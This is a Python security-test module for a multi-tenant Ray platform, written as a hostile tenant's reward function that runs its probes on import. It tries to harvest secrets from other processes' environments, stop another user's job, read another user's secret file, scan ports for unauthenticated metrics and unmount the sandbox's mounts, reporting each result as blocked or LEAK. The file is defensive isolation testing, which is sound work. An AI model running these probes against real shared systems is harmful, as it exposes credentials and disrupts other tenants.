"""A hostile task (issue 21): alice's code, it tries every way out it knows and prints a verdict each.

Admission lets a task run only allowlisted entry modules, so user code gets in the way it
does on a real cluster: as a reward function that a job imports (``argus.jobs.reward_check
--reward $HOME/code/hostile_probe.py``). Importing the module runs the probes, reading what
the attacker knows from ``knows.json`` beside it.

Each probe prints one line ``PROBE <name> blocked|LEAK <detail>``. What the attacker "knows"
is what a real one could learn by scanning ports and guessing paths: the platform's GCS,
dashboard and client ports, the server's pid, the state dir, bob's home and his task's
Ray job id and private Ray address. Standard library and Ray only: it runs in the task's
sandbox with the training environment.
"""

from __future__ import annotations

import ctypes
import json
import os
import socket
import subprocess
import sys
import urllib.error
import urllib.request
from concurrent.futures import ThreadPoolExecutor
from http.client import HTTPException

SECRET_NAMES = ("ARGUS_ADMIN_TOKEN", "ARGUS_METRICS_TOKEN", "ARGUS_DATABASE_URL", "AWS_SECRET_ACCESS_KEY",
                "RAY_AUTH_TOKEN_PATH", "ARGUS_JAIL_CONFIG")


def verdict(name: str, leaked: bool, detail: object) -> None:
    print(f"PROBE {name} {'LEAK' if leaked else 'blocked'} {str(detail)[:300]!r}", flush=True)


def tcp_open(host: str, port: int) -> bool:
    try:
        with socket.create_connection((host, port), timeout=3):
            return True
    except OSError:
        return False


def ray_connects(address: str, env: dict[str, str], timeout: float = 30) -> tuple[bool, str]:
    """Whether ``ray.init(address)`` succeeds and can list the cluster's jobs, in a child with a time limit."""
    code = ("import ray, sys\nray.init(address=sys.argv[1], logging_level='ERROR')\n"
            "from ray._private.state import state\nprint('CONNECTED', len(ray.nodes()), flush=True)\n")
    try:
        done = subprocess.run([sys.executable, "-c", code, address], env=env, capture_output=True, text=True,
                              timeout=timeout)
    except subprocess.TimeoutExpired:
        return False, "timed out without connecting"
    out = (done.stdout + done.stderr).strip().splitlines()
    return "CONNECTED" in done.stdout, (out[-1] if out else f"exit {done.returncode}")


def http(method: str, url: str) -> tuple[int | None, str]:
    req = urllib.request.Request(url, method=method)
    try:
        with urllib.request.urlopen(req, timeout=10) as resp:  # noqa: S310 - a probe of a known local URL
            return resp.status, resp.read(200).decode(errors="replace")
    except urllib.error.HTTPError as e:
        return e.code, e.read(200).decode(errors="replace")
    except OSError as e:
        return None, str(e)


def listening_ports() -> list[int]:
    """Every TCP port something listens on in this network namespace (the node's: /proc/net/tcp{,6}, state 0A)."""
    ports = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            with open(table) as f:
                rows = f.read().splitlines()[1:]
        except OSError:
            continue
        ports |= {int(cols[1].rsplit(":", 1)[1], 16) for cols in map(str.split, rows) if cols[3] == "0A"}
    return sorted(ports)


def prometheus_scrapes(hosts: list[str], ports: list[int]) -> list[str]:
    """Each ``host:port/path`` on the node that hands out Ray's Prometheus text to a caller without a token."""
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))

    def scrape(target: tuple[str, int, str]) -> str | None:
        host, port, path = target
        try:
            with opener.open(f"http://{host}:{port}{path}", timeout=2) as resp:
                body = resp.read(1 << 20).decode(errors="replace")
        except (OSError, ValueError, HTTPException):
            return None
        return f"{host}:{port}{path}" if "# TYPE ray_" in body or "# HELP ray_" in body else None

    targets = [(h, port, path) for port in ports for h in hosts for path in ("/metrics", "/")]
    with ThreadPoolExecutor(16) as pool:
        return [hit for hit in pool.map(scrape, targets) if hit]


def visible_processes() -> list[tuple[int, str]]:
    out = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                with open(f"/proc/{entry}/cmdline", "rb") as f:
                    out.append((int(entry), f.read().replace(b"\0", b" ").decode(errors="replace")))
            except OSError:
                pass
    return out


def main(knows: str) -> int:
    k = json.loads(knows)
    bare = {key: v for key, v in os.environ.items() if not key.startswith("RAY_")}  # no private-Ray token

    # 1. the platform's Ray Client server, GCS and internal tables; bob's private Ray (section 3+4). Each refused
    # ray.init waits ~20 s before it gives up: the attempts run side by side, not one after the other.
    client_open = tcp_open(k["host"], k["client_port"])
    attempts = {"ray-client": (f"ray://{k['host']}:{k['client_port']}", bare) if client_open else None,
                "platform-gcs": (k["gcs"], bare),
                "platform-gcs-own-token": (k["gcs"], dict(os.environ)),  # with this task's own private-Ray token
                "bob-private-ray": (k["bob_ray"], dict(os.environ)) if k.get("bob_ray") else None}
    with ThreadPoolExecutor(len(attempts)) as pool:
        tried = {name: pool.submit(ray_connects, *args) for name, args in attempts.items() if args}
        connected = {name: future.result() for name, future in tried.items()}
    if client_open:
        verdict("ray-client", *connected["ray-client"])
    else:
        verdict("ray-client", False, "nothing listens on the client port")
    verdict("platform-gcs", *connected["platform-gcs"])
    verdict("platform-gcs-own-token", *connected["platform-gcs-own-token"])

    # 2. the server's environment
    env_leaks = [n for n in SECRET_NAMES if n in os.environ]
    for pid, _ in visible_processes():
        try:
            with open(f"/proc/{pid}/environ", "rb") as f:
                data = f.read()
            env_leaks += [f"{n}@{pid}" for n in SECRET_NAMES if n.encode() + b"=" in data]
            env_leaks += [f"value@{pid}" for v in k["secret_values"] if v.encode() in data]
        except OSError:
            pass
    env_leaks += ["value@env" for v in k["secret_values"] if any(v in x for x in os.environ.values())]
    verdict("environment", bool(env_leaks), env_leaks or sorted(os.environ))

    # 3+4. the Jobs API: list every job, stop bob's; bob's private Ray with my own token
    status, body = http("GET", f"{k['dashboard']}/api/jobs/")
    verdict("jobs-api-list", status == 200, f"{status} {body}")
    status, body = http("POST", f"{k['dashboard']}/api/jobs/{k['bob_sid']}/stop")
    verdict("jobs-api-stop", status == 200, f"{status} {body}")
    status, body = http("GET", f"{k['dashboard']}/api/v0/nodes")
    verdict("state-api", status == 200, f"{status} {body}")
    if "bob-private-ray" in connected:
        verdict("bob-private-ray", *connected["bob-private-ray"])
    # every port on the node: Ray's Prometheus endpoints take no token (the platform's, bob's private Ray's)
    ports = listening_ports()
    hits = prometheus_scrapes(sorted({"127.0.0.1", k["host"]}), ports)
    verdict("ray-metrics", bool(hits), hits or f"no Prometheus text from {len(ports)} listening ports")
    seen = [p for p in k["platform_paths"] if os.path.exists(p)]
    verdict("platform-files", bool(seen), seen or "none of the platform's files (db, keys, Ray session, token)")

    # 5. processes: bob's, the server's
    procs = visible_processes()
    foreign = [c for _, c in procs if k["bob_marker"] in c or "argus.cli.main" in c or "raylet" in c
               and "/tmp/ray" not in c]
    verdict("processes", bool(foreign), f"{len(procs)} visible; foreign: {foreign[:3]}")
    try:
        os.kill(k["server_pid"], 0)
        verdict("signal-server", True, "signal 0 to the server's pid succeeded")
    except ProcessLookupError:
        verdict("signal-server", False, "no such process here")
    except PermissionError as e:
        verdict("signal-server", False, e)

    # 6. root and capabilities; /proc/<pid>/root; umount of the sandbox's mounts
    with open("/proc/self/status") as f:
        cap_eff = int(next(line for line in f if line.startswith("CapEff")).split()[1], 16)
    verdict("capabilities", cap_eff != 0, f"uid={os.getuid()} CapEff={cap_eff:#x}")
    try:
        os.listdir(f"/proc/{k['server_pid']}/root{k['state_dir']}")
        verdict("proc-root", True, "read the server's state dir through /proc/<pid>/root")
    except OSError as e:
        verdict("proc-root", False, e)
    libc = ctypes.CDLL(None, use_errno=True)
    for target in ("/tmp", k["data_root"]):
        rc = libc.umount2(target.encode(), 2)  # MNT_DETACH
        verdict(f"umount {target}", rc == 0, f"errno {ctypes.get_errno()}")

    # other homes; the node's shared memory and GPUs
    try:
        with open(k["bob_secret"]) as f:
            verdict("bob-home", True, f.read())
    except OSError as e:
        verdict("bob-home", False, e)
    shm = os.listdir("/dev/shm")
    verdict("dev-shm", k["shm_marker"] in shm, shm[:5])
    gpus = sorted(d for d in os.listdir("/dev") if d.startswith("nvidia") and d[6:].isdigit())
    verdict("gpu-devices", len(gpus) > k.get("my_gpus", 0), gpus)
    return 0


def compute_score(data_source, solution_str, ground_truth, extra_info=None, **kwargs):  # noqa: ANN001, ANN201
    return 0.0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1]))
_KNOWS = os.path.join(os.path.dirname(os.path.abspath(__file__)), "knows.json")
if os.path.exists(_KNOWS):
    with open(_KNOWS) as _f:
        main(_f.read())
